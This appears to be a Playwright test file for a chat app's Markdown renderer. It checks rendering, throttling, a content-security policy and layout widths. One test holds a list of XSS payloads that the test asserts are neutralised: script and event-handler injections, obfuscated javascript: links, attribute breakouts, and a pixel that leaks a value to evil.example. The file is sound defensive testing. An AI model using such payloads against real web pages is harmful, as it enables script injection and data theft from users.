/** Markdown of the model in a real Chromium: rendered as it comes, harmless, at any width. WIDTHS=folder takes a picture of each. */
import assert from "node:assert/strict";
import { join } from "node:path";
import { test } from "node:test";
import { ask, open, page, problems, reports } from "./page.js";

const TEXT = `## Two tides a day

The *height* changes with the **moon**, see [the tables](https://tides.example/today).

1. Flood
2. Ebb
   - slack water

| harbour | high water | height in metres |
|---------|-----------:|-----------------:|
| Callao  |      06:12 |              1.1 |
| Bergen  |      09:40 |              1.4 |

> The sea is never still.

\`\`\`python
heights = [tide.height for tide in tables["today"] if tide.harbour == "Callao" and tide.height > 0.5]
\`\`\`
`;

/** What must never run, load or lead anywhere. */
const HOSTILE = `<script>window.hurt = 1</script>
<img src="https://evil.example/html.png" onerror="window.hurt = 2">
<svg onload="window.hurt = 3"></svg><iframe src="https://evil.example/frame"></iframe>
<style>body { display: none }</style><base href="https://evil.example/">

![pixel](https://evil.example/pixel.png?said=secret) ![x](javascript:window.hurt=4) ![y](data:image/svg+xml,<svg/>)

[a](javascript:window.hurt=5) [b](JaVaScRiPt:window.hurt=6) [c](java&#115;cript:window.hurt=7) [d](data:text/html,<script>window.hurt=8</script>)
[e](https://evil.example/ "x\\" onmouseover=\\"window.hurt=9") <javascript:window.hurt=10> [f][ref] [g](//evil.example/g) [h](/h) [i](vbscript:x)

[ref]: javascript:window.hurt=11

\`\`\`"><script>window.hurt=12</script>
x
\`\`\`

https://evil.example/"onmouseover="window.hurt=13
`;

test("Markdown is rendered", async () => {
  await ask(`sim:echo\n${TEXT}\n\nThe end.`);
  await reports(1);
  const text = page.locator(".text");
  await text.getByRole("heading", { name: "Two tides a day" }).waitFor();
  assert.equal(await text.locator("ol > li > ul > li").innerText(), "slack water");
  assert.equal(await text.getByRole("cell", { name: "Bergen" }).count(), 1);
  assert.match(await text.locator("pre code").innerText(), /^heights = /);
  const link = text.getByRole("link", { name: "the tables" });
  const [href, target, rel] = await Promise.all(["href", "target", "rel"].map((name) => link.getAttribute(name)));
  assert.deepEqual([href, target, rel], ["https://tides.example/today", "_blank", "noopener noreferrer"]);
  assert.deepEqual(problems, []);
});

test("a finished block stays the same element while the answer grows", async () => {
  await ask(`sim:echo\n# First\n\n${"word ".repeat(400)}\n\nThe end.`);
  // Until the next block begins, the heading is the last one, and is rendered again.
  await page.waitForFunction(() => (document.querySelector(".text")?.textContent?.length ?? 0) > 100);
  await page.locator(".text h1").evaluate((element) => element.setAttribute("data-mark", "mine"));
  await reports(1);
  assert.equal(await page.locator(".text h1").getAttribute("data-mark"), "mine");
});

test("hostile Markdown runs nothing, loads nothing, and leads only to the web", async () => {
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (!/^(https?:\/\/127\.0\.0\.1[:/]|data:)/.test(request.url())) foreign.push(request.url());
  });
  await ask(`sim:echo\n${HOSTILE}`);
  await reports(1);
  await page.locator(".text").hover();
  const found = await page.locator(".text").evaluate((text) => ({
    hurt: (globalThis as { hurt?: number }).hurt,
    tags: [...new Set([...text.querySelectorAll("*")].map(({ localName }) => localName))].sort(),
    attributes: [...new Set([...text.querySelectorAll("*")].flatMap((element) => element.getAttributeNames()))].sort(),
    links: [...text.querySelectorAll("a")].map(({ protocol, host }) => `${protocol}//${host}`),
    text: text.textContent ?? "",
  }));
  assert.equal(found.hurt, undefined);
  assert.deepEqual(found.tags, ["a", "code", "p", "pre"]);
  assert.deepEqual(found.attributes, ["class", "href", "rel", "target", "title"]);
  assert.deepEqual([...new Set(found.links)], ["https://evil.example"]);
  assert.ok(found.text.includes("<script>window.hurt = 1</script>"), "it is shown as what it is");
  assert.deepEqual(foreign, []);
  await page.getByRole("heading", { name: "Trunkline" }).waitFor(); // no style of the model's hides the page
});

test("text that takes long to render leaves the page four times as long for everything else", async () => {
  await page.evaluate(() => {
    let clock = 0;
    performance.now = () => (clock += 100); // so each rendering takes 100 ms, and 400 belong to the page
    let renderings = 0;
    new MutationObserver((records) => {
      if (records.some(({ target }) => (target as Element).matches?.(".text"))) renderings += 1;
      document.body.dataset["renderings"] = String(renderings);
    }).observe(document.body, { childList: true, subtree: true });
  });
  const began = Date.now();
  await ask("sim:slow(n=100, delay_ms=20)");
  await reports(1);
  const renderings = Number(await page.evaluate(() => document.body.dataset["renderings"]));
  const most = (Date.now() - began) / 400 + 2; // the first, and the last
  assert.ok(renderings > 2 && renderings <= most, `${renderings}, and at most ${most}`);
  assert.match(await page.locator(".text").innerText(), /^word1 .* word100$/);
});

test("were a picture in the page nevertheless, the browser would not load it", async () => {
  const refused = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) => {
      document.addEventListener("securitypolicyviolation", (event) => resolve(`${event.effectiveDirective} ${event.blockedURI}`));
    });
    document.body.append(Object.assign(new Image(), { src: "https://evil.example/pixel.png" }));
    return violation;
  });
  assert.equal(refused, "img-src https://evil.example/pixel.png");
});

const TABLE = ["| a column that is wide ", "|---", "| x "].map((cell) => `${cell.repeat(8)}|`).join("\n");
const LONG = "unbroken".repeat(40);
const WIDE = [TEXT, LONG, `\`${LONG}\``, `# ${LONG}`, `- ${LONG}`, `> ${LONG}`, `https://tides.example/${LONG}`, TABLE].join("\n\n");
const QUESTIONS = ["sim:tools(n=1)", "sim:web_search(thoughts=true)", "sim:code_interpreter", "sim:fail(at=content)"];

/** What reaches beyond the right edge, but for what scrolls by itself. */
function wider(): Promise<string[]> {
  return page.evaluate(() => {
    const outside = (element: Element) => element.getBoundingClientRect().right > innerWidth + 0.5;
    return [...document.querySelectorAll("body *")]
      .filter((element) => outside(element) && element.parentElement?.closest(".text pre, .text .wide") === null)
      .map((element) => `${element.tagName}.${element.className}`);
  });
}

const folder = process.env["WIDTHS"];

async function picture(name: string): Promise<void> {
  if (folder !== undefined) await page.screenshot({ path: join(folder, `${name}.png`), animations: "disabled" });
}

for (const width of [320, 768, 1280]) {
  for (const colorScheme of ["light", "dark"] as const) {
    test(`nothing is wider than a page of ${width} pixels, ${colorScheme}`, async () => {
      await open({ viewport: { width, height: 800 }, colorScheme });
      const name = `web-${width}-${colorScheme}`;
      assert.deepEqual(await wider(), []);
      await picture(`${name}-welcome`);
      await page.getByRole("button", { name: "Settings" }).click();
      assert.deepEqual(await wider(), []);
      await picture(`${name}-settings`);
      await page.getByRole("button", { name: "Cancel" }).click();
      for (const question of [`sim:echo\n${WIDE}`, ...QUESTIONS]) {
        await ask(question);
        await page.locator(".turn.ended").last().waitFor();
        await page.getByRole("button", { name: "Stop" }).waitFor({ state: "hidden" });
      }
      assert.deepEqual(await wider(), []);
      await page.locator(".text h2").first().evaluate((element) => element.scrollIntoView());
      await picture(`${name}-text`);
    });
  }
}
